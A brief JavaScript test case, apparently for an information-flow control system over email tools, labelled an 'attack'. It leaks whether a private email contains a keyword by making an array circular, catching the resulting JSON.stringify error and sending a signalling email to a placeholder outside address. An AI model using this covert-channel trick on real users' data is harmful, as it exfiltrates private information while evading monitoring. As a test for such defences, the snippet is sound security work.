// attack: make an array circular only in a labeled branch; JSON.stringify throws iff so, and the catch sends
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const a = [];
if (m.body.includes('zed')) {
  a.push(a);
}
try {
  JSON.stringify(a);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'circular' });
}
